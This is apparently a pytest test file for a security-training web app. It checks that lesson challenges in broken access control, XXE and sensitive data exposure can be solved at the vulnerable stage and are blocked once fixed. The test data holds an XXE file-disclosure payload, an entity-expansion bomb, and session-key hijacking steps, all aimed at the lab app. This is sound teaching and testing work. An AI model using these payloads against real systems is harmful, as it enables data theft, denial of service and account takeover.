"""Challenges of lessons 6-10 solved by hand over plain HTTP (csrf and xss: see the
browser tests), and the same steps at the fixing stage solve nothing."""

from __future__ import annotations

import json

import pytest
from sqlalchemy import select

from marketplace import challenges
from marketplace.extensions import db
from marketplace.lessons import get_lesson
from marketplace.lessons.xxe.challenges import canary_path, canary_text
from marketplace.models import Listing

LISTING = {"title": "Green teapot", "description": "Cast iron, one litre."}


@pytest.fixture
def solves(monkeypatch):
    """Every solve a detector reports, as (lesson, exploit, evidence)."""
    found: list[tuple[str, str, str]] = []
    monkeypatch.setattr(
        challenges,
        "solved",
        lambda lesson, exploit, evidence: found.append((lesson, exploit, evidence)),
    )
    return found


def solved_keys(solves) -> set[tuple[str, str]]:
    return {(lesson, exploit) for lesson, exploit, _ in solves}


def _person(target, name: str):
    account = target.account(name.lower(), name=name)
    return account.http


def _listing_id(app, title: str) -> int:
    """The listing's number (the learner reads it in the index's links)."""
    with app.app_context():
        return db.session.scalar(select(Listing.id).where(Listing.title == title))


# --- broken-access-control -------------------------------------------------------------


@pytest.mark.parametrize("stage", ["authentication-only", "owner-check"])
def test_edit_and_delete_someone_elses_listing(app, target, set_stage, solves, stage):
    set_stage("broken-access-control", stage)
    alice, mallory = _person(target, "Alice"), _person(target, "Mallory")
    assert alice.submit("/listings/create", LISTING).status == 302
    first = _listing_id(app, LISTING["title"])
    assert alice.submit("/listings/create", {**LISTING, "title": "Second teapot"}).status == 302
    second = _listing_id(app, "Second teapot")

    # Mallory loads Alice's listing by its number, with her own form token.
    edited = mallory.submit(
        f"/listings/{first}", {**LISTING, "title": "Mallory's now"}, form_path="/listings/create"
    )
    deleted = mallory.submit(f"/listings/{second}/delete", {}, form_path="/user/welcome")
    with app.app_context():
        titles = set(db.session.scalars(select(Listing.title)))

    if stage == "authentication-only":
        assert edited.status == deleted.status == 302
        assert "Mallory's now" in titles and "Second teapot" not in titles
        assert solved_keys(solves) == {
            ("broken-access-control", "edit-foreign-listing"),
            ("broken-access-control", "delete-foreign-listing"),
        }
    else:
        assert edited.status == deleted.status == 404
        assert LISTING["title"] in titles and "Second teapot" in titles
        assert solves == []


def test_owner_changing_own_listing_solves_nothing(app, target, set_stage, solves):
    set_stage("broken-access-control", "authentication-only")
    alice = _person(target, "Alice")
    assert alice.submit("/listings/create", LISTING).status == 302
    number = _listing_id(app, LISTING["title"])
    assert alice.submit(f"/listings/{number}", {**LISTING, "title": "Renamed"}).status == 302
    assert alice.submit(f"/listings/{number}/delete", {}, form_path="/user/welcome").status == 302
    assert solves == []


# --- xxe ---------------------------------------------------------------------------------


def _upload(http, document: str):
    files = {"file": ("listings.xml", document.encode(), "application/xml")}
    return http.submit("/listings/upload", {}, files=files)


@pytest.mark.parametrize("stage", ["resolve-entities", "defused"])
def test_canary_file_published_through_an_entity(app, target, set_stage, solves, stage):
    set_stage("xxe", stage)
    with app.app_context():
        uri = canary_path(app).as_uri()
        secret = canary_text(app)
    learner = _person(target, "Learner")
    where = learner.get("/lab/xxe/canary").text
    assert uri in where and secret not in where  # the page says where, never what
    reply = _upload(
        learner,
        f'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY c SYSTEM "{uri}">]>'
        "<listings><listing><title>Found it</title><description>It says &c;</description>"
        "</listing></listings>",
    )
    if stage == "resolve-entities":
        assert reply.status == 302 and secret in learner.get("/user/welcome").text
        assert solved_keys(solves) == {("xxe", "file-disclosure")}
    else:
        assert reply.status == 400
        assert solves == []


@pytest.mark.parametrize("stage", ["resolve-entities", "defused"])
def test_small_document_expands(target, set_stage, solves, stage):
    set_stage("xxe", stage)
    learner = _person(target, "Learner")
    document = (
        '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "lollollol!">'
        '<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">'
        '<!ENTITY d "&c;&c;&c;&c;">]>'
        "<listings><listing><title>Laughs</title><description>&d;</description></listing>"
        "</listings>"
    )
    reply = _upload(learner, document)
    if stage == "resolve-entities":
        assert reply.status == 302
        assert solved_keys(solves) == {("xxe", "entity-expansion")}
    else:
        assert reply.status == 400
        assert solves == []


def test_ordinary_upload_solves_nothing(target, set_stage, solves):
    set_stage("xxe", "resolve-entities")
    learner = _person(target, "Learner")
    items = "".join(
        f"<listing><title>Lamp {n}</title><description>A lamp, number {n}.</description></listing>"
        for n in range(20)
    )
    assert _upload(learner, f'<?xml version="1.0"?><listings>{items}</listings>').status == 302
    assert solves == []


# --- sensitive-data-exposure ---------------------------------------------------------------


def _strings_named(value, name: str) -> list[str]:
    """Every string under a key ``name`` anywhere in a JSON document."""
    found = []
    if isinstance(value, dict):
        for key, item in value.items():
            if key == name and isinstance(item, str):
                found.append(item)
            found += _strings_named(item, name)
    elif isinstance(value, list):
        for item in value:
            found += _strings_named(item, name)
    return found


def _answer(app, exploit: str, text: str) -> str | None:
    lesson = get_lesson("sensitive-data-exposure")
    challenge = next(c for c in challenges.lesson_challenges(lesson) if c.exploit == exploit)
    with app.test_request_context("/"):
        return challenge.answer(text)


@pytest.mark.parametrize("stage", ["auto-serialize", "allow-list"])
def test_read_secrets_from_the_api_and_hijack(app, target, set_stage, solves, stage):
    set_stage("sensitive-data-exposure", stage)
    victim = _person(target, "Victim")
    assert victim.submit("/listings/create", LISTING).status == 302
    learner = target.session()  # anonymous: reads the public API
    listing_page = json.loads(learner.get("/api/v1/listings").text)
    keys = _strings_named(listing_page, "key")
    hashes = _strings_named(listing_page, "password_hash")
    # The victim keeps browsing with their own cookies: never a hijack.
    assert victim.get("/user/welcome").status == 200
    answers = [_answer(app, "api-leaks-secrets", text) for text in keys + hashes]
    for key in keys:
        learner.set_cookie("session", key)
        learner.get("/user/welcome")
    if stage == "auto-serialize":
        assert keys and hashes and all(answers)
        assert solved_keys(solves) == {("sensitive-data-exposure", "hijack-with-leaked-key")}
    else:
        assert keys == hashes == [] and solves == []
        # Even the real key, replayed from another client, was never served by the API.
        stolen = victim.get_cookie("session")
        assert _answer(app, "api-leaks-secrets", stolen) is None
        learner.set_cookie("session", stolen)
        assert learner.get("/user/welcome").status == 200
        assert solves == []


def test_wrong_answers_are_refused(app, target, set_stage):
    set_stage("sensitive-data-exposure", "auto-serialize")
    assert _answer(app, "api-leaks-secrets", "not-a-secret-at-all") is None
    assert _answer(app, "api-leaks-secrets", "") is None
